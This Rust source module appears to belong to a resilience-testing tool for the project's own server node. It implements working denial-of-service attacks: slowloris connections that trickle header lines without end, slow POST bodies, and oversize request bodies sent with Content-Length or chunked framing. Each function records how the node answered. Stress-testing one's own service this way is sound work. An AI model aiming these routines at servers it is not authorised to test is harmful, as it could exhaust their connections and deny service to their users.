//! The attacks an HTTP client library will not make: request heads and bodies trickled a
//! few bytes at a time (slowloris), and bodies larger than the node accepts, written
//! while the answer is read so an early 413 shows as early.

use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::OwnedReadHalf;
use tokio::net::TcpStream;

use super::Ctx;

/// How long a connection was held, in coarse buckets (the node's timeouts are 10 s for a
/// request head and 60 s for a body by default).
fn held(d: Duration) -> &'static str {
    match d.as_secs() {
        0 => "<1 s",
        1..=4 => "1-5 s",
        5..=9 => "5-10 s",
        10..=14 => "10-15 s",
        15..=29 => "15-30 s",
        30..=59 => "30-60 s",
        60..=89 => "60-90 s",
        _ => ">=90 s",
    }
}

/// Reads the status line of the answer: the code, or how the connection ended.
async fn read_status(mut rd: OwnedReadHalf) -> String {
    let mut buf = Vec::with_capacity(64);
    let mut chunk = [0u8; 256];
    loop {
        match rd.read(&mut chunk).await {
            Ok(0) if buf.is_empty() => return "closed without an answer".into(),
            Ok(0) => break,
            Ok(n) => {
                buf.extend_from_slice(chunk.get(..n).unwrap_or_default());
                if buf.windows(2).any(|w| w == b"\r\n") || buf.len() > 1024 {
                    break;
                }
            }
            Err(_) if buf.is_empty() => return "reset without an answer".into(),
            Err(_) => break,
        }
    }
    let line = String::from_utf8_lossy(&buf);
    line.split_whitespace()
        .nth(1)
        .filter(|c| c.len() == 3 && c.bytes().all(|b| b.is_ascii_digit()))
        .map_or_else(|| "garbled answer".into(), str::to_string)
}

fn payment_line(ctx: &Ctx) -> String {
    ctx.payment
        .as_deref()
        .map(|p| format!("{}: {p}\r\n", khachapuri_payments::PAYMENT_HEADER))
        .unwrap_or_default()
}

/// One POST of `max_request_bytes + 1` bytes to the paid deployment: declared up front
/// (`Content-Length`) on even `n`, chunked on odd `n`.
pub(super) async fn oversize(ctx: Arc<Ctx>, n: u64) {
    let chunked = n % 2 == 1;
    let kind = if chunked {
        "oversize body (chunked)"
    } else {
        "oversize body (Content-Length)"
    };
    let t = Instant::now();
    let label = oversize_once(&ctx, chunked).await;
    ctx.tally.add(kind, label, Some(t.elapsed()));
}

async fn oversize_once(ctx: &Ctx, chunked: bool) -> String {
    let Ok(stream) = TcpStream::connect(&ctx.host).await else {
        return "connect error".into();
    };
    let (rd, mut wr) = stream.into_split();
    let total = ctx.max_request_bytes + 1;
    let framing = if chunked {
        "Transfer-Encoding: chunked\r\n".to_string()
    } else {
        format!("Content-Length: {total}\r\n")
    };
    let head = format!(
        "POST /{}/ HTTP/1.1\r\nHost: {}\r\n{}{framing}Connection: close\r\n\r\n",
        ctx.deployment,
        ctx.host,
        payment_line(ctx)
    );
    let writer = async move {
        wr.write_all(head.as_bytes()).await?;
        let chunk = vec![b'z'; 64 * 1024];
        let mut sent = 0u64;
        while sent < total {
            let n = (total - sent).min(chunk.len() as u64) as usize;
            let part = chunk.get(..n).unwrap_or_default();
            if chunked {
                wr.write_all(format!("{n:x}\r\n").as_bytes()).await?;
                wr.write_all(part).await?;
                wr.write_all(b"\r\n").await?;
            } else {
                wr.write_all(part).await?;
            }
            sent += n as u64;
        }
        if chunked {
            wr.write_all(b"0\r\n\r\n").await?;
        }
        // Keep the write half open: shutting it down may end the exchange early.
        std::future::pending::<()>().await;
        std::io::Result::Ok(wr)
    };
    let reader = tokio::time::timeout(Duration::from_secs(30), read_status(rd));
    tokio::pin!(writer, reader);
    let mut write_failed = false;
    loop {
        tokio::select! {
            status = &mut reader => {
                let status = status.unwrap_or_else(|_| "no answer in 30 s".into());
                return if write_failed {
                    format!("{status} (node stopped reading)")
                } else {
                    status
                };
            }
            w = &mut writer, if !write_failed => {
                if w.is_err() {
                    write_failed = true;
                }
            }
        }
    }
}

/// Opens a trickling connection: `head` first, then `line(i)` every `trickle` until the
/// node answers or closes, or the attack ends. Returns how it ended and how long it held.
async fn trickle(ctx: &Ctx, head: &str, trickle: Duration, line: &[u8]) -> (String, Duration) {
    let t = Instant::now();
    let Ok(stream) = TcpStream::connect(&ctx.host).await else {
        return ("connect error".into(), t.elapsed());
    };
    let (rd, mut wr) = stream.into_split();
    if wr.write_all(head.as_bytes()).await.is_err() {
        return ("closed before the head was sent".into(), t.elapsed());
    }
    let reader = read_status(rd);
    tokio::pin!(reader);
    let end = tokio::time::sleep_until(ctx.deadline.into());
    tokio::pin!(end);
    loop {
        tokio::select! {
            status = &mut reader => return (status, t.elapsed()),
            () = &mut end => return ("still open at the end".into(), t.elapsed()),
            () = tokio::time::sleep(trickle) => {
                if wr.write_all(line).await.is_err() {
                    // The node closed it; the read side says how.
                    let status = tokio::time::timeout(Duration::from_secs(1), &mut reader).await;
                    return (status.unwrap_or_else(|_| "write refused".into()), t.elapsed());
                }
            }
        }
    }
}

/// `conns` connections trickling one header line per `trickle_secs`, never ending the head;
/// each reconnects (after one trickle interval) once the node closes it.
pub(super) async fn slowloris(ctx: Arc<Ctx>, conns: usize, trickle_secs: f64) {
    let every = Duration::from_secs_f64(trickle_secs.max(0.01));
    let mut tasks = Vec::with_capacity(conns);
    for i in 0..conns {
        let ctx = ctx.clone();
        tasks.push(tokio::spawn(async move {
            // Spread the first connects over a second.
            tokio::time::sleep(Duration::from_millis(
                (i as u64 * 1000) / conns.max(1) as u64,
            ))
            .await;
            let head = format!(
                "GET /{}/ HTTP/1.1\r\nHost: {}\r\n",
                ctx.deployment, ctx.host
            );
            let line = format!("X-Slow-{i}: 1\r\n");
            while Instant::now() < ctx.deadline {
                let (how, took) = trickle(&ctx, &head, every, line.as_bytes()).await;
                ctx.tally.add(
                    "slowloris (head)",
                    format!("{how}, held {}", held(took)),
                    None,
                );
                tokio::time::sleep(every).await;
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
}

/// `conns` paid POSTs declaring a 1 MB body and sending 16 bytes per `trickle_secs`.
pub(super) async fn slow_body(ctx: Arc<Ctx>, conns: usize, trickle_secs: f64) {
    let every = Duration::from_secs_f64(trickle_secs.max(0.01));
    let mut tasks = Vec::with_capacity(conns);
    for i in 0..conns {
        let ctx = ctx.clone();
        tasks.push(tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(
                (i as u64 * 1000) / conns.max(1) as u64,
            ))
            .await;
            let head = format!(
                "POST /{}/ HTTP/1.1\r\nHost: {}\r\n{}Content-Length: 1000000\r\n\r\n",
                ctx.deployment,
                ctx.host,
                payment_line(&ctx)
            );
            while Instant::now() < ctx.deadline {
                let (how, took) = trickle(&ctx, &head, every, &[b'b'; 16]).await;
                ctx.tally
                    .add("slow body", format!("{how}, held {}", held(took)), None);
                tokio::time::sleep(every).await;
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
}
